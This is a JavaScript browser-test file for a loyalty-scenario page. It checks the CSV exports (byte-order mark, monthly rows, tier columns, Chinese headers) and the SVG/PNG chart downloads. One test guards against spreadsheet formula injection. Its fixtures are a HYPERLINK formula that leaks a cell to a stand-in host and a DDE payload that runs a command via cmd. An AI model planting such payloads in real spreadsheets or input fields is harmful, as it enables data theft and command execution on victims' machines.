// Exports. CSV of the monthly rows: UTF-8 with a byte-order mark (so Excel reads Chinese),
// one line per month, the tier names as columns, headers in the page's language, and the
// figures the same as the page shows; written by the core, so a name like a formula comes
// out as text in every CSV the page downloads. Each chart as SVG and as PNG.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { launch, open, waitForRun, runs } from './helpers.mjs';
import { smallScenario, tabsLink } from './study-fixtures.mjs';

let browser;
before(async () => { browser = await launch(); });
after(async () => { await browser?.close(); });

async function csvOf(page) {
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
  assert.match(download.suggestedFilename(), /\.csv$/);
  return readFile(await download.path());
}

/** The lines and cells of a CSV file after its BOM (RFC 4180 quoting). */
function parse(bytes) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  const text = bytes.subarray(3).toString('utf8');
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') { cell += '"'; i += 1; }
    else if (c === '"' && (quoted || cell === '')) quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; }
    else if (c !== '\r') cell += c;
  }
  return rows;
}

test('the CSV has a BOM, a row per month, tier columns and the page’s numbers', async () => {
  const { page } = await open(browser);
  await waitForRun(page);
  const bytes = await csvOf(page);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark');
  const rows = parse(bytes);
  const [header, ...months] = rows;
  assert.equal(months.length, 36, 'one row per month of the 36-month horizon');
  for (const col of ['Month', 'Calendar month', 'Active', 'Tier: Regular', 'Tier: Silver', 'Tier: Gold', 'Revenue', 'Points outstanding', 'Points liability']) {
    assert.ok(header.includes(col), `column ${col}`);
  }
  assert.ok(rows.every((r) => r.length === header.length), 'every row has every column');
  const col = (name) => header.indexOf(name);
  const last = months[months.length - 1];
  assert.equal(last[col('Month')], '35');
  assert.equal(last[col('Calendar month')], '2028-12');
  const activeKpi = Number((await page.textContent('[data-kpi="active"] .kpi-value')).replace(/,/g, ''));
  assert.equal(Number(last[col('Active')]), activeKpi, 'the last month’s active members match the KPI');
  const perTier = ['Tier: Regular', 'Tier: Silver', 'Tier: Gold'].map((c) => Number(last[col(c)]));
  assert.equal(perTier.reduce((a, b) => a + b, 0), Number(last[col('Enrolled')]), 'tier columns add up to the members enrolled');
  assert.match(last[col('Revenue')], /^\d+\.\d{2}$/, 'money with two decimals');
});

test('in Chinese the CSV headers are Chinese and still open in Excel', async () => {
  const { page } = await open(browser);
  await waitForRun(page);
  const n = await runs(page);
  await page.click('#lang');
  await waitForRun(page, n);
  const bytes = await csvOf(page);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const [header] = parse(bytes);
  for (const col of ['月份', '活跃会员', '等级：Silver', '收入', '积分负债']) assert.ok(header.includes(col), `column ${col} in ${header.join('|')}`);
  await page.click('#lang');
});

test('a name like a formula downloads as text, never as a formula', async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  const a = smallScenario(formula);
  a.tiers.levels[2].name = '-2+3+cmd|\' /C calc\'!A0';
  const { page, context } = await open(browser, `index.html${tabsLink([a, smallScenario('B')])}`);
  await waitForRun(page);
  const [header] = parse(await csvOf(page));
  assert.ok(header.includes('Tier: -2+3+cmd|\' /C calc\'!A0'), header.join('|'));
  await page.click('.view-tabs [data-view="compare"]');
  await page.waitForFunction(() => Number(document.querySelector('#compare-view')?.dataset.compared || 0) > 0, null, { timeout: 30000 });
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-download="compare-csv"]')]);
  const cells = parse(await readFile(await download.path())).flat();
  assert.ok(cells.includes(`'${formula}`), 'the scenario’s name behind an apostrophe');
  assert.ok(!cells.some((c) => /^[=+@\t\r\n]/.test(c) || /^-(?!\d+(\.\d+)?$)/.test(c)), 'no cell a spreadsheet would run');
  assert.ok(cells.includes('Share in -2+3+cmd|\' /C calc\'!A0'), 'the tier named in the KPI');
  await context.close();
});

test('a chart downloads as standalone SVG and as PNG', async () => {
  const { page } = await open(browser);
  await waitForRun(page);
  const card = '.chart-card[data-chart-card="tiers"]';
  const [svg] = await Promise.all([page.waitForEvent('download'), page.click(`${card} [data-download="svg"]`)]);
  assert.match(svg.suggestedFilename(), /-tiers\.svg$/);
  const text = await readFile(await svg.path(), 'utf8');
  assert.match(text, /^<\?xml[^>]*>\s*<svg[^>]*xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
  assert.match(text, /data-chart="tiers"/);
  assert.match(text, /Silver/);
  const [png] = await Promise.all([page.waitForEvent('download'), page.click(`${card} [data-download="png"]`)]);
  assert.match(png.suggestedFilename(), /-tiers\.png$/);
  const bytes = await readFile(await png.path());
  assert.deepEqual([...bytes.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'a PNG file');
  const width = bytes.readUInt32BE(16);
  assert.ok(width >= 720, `drawn at full resolution (${width}px wide)`);
  assert.ok(bytes.length > 10000, 'not an empty image');
});
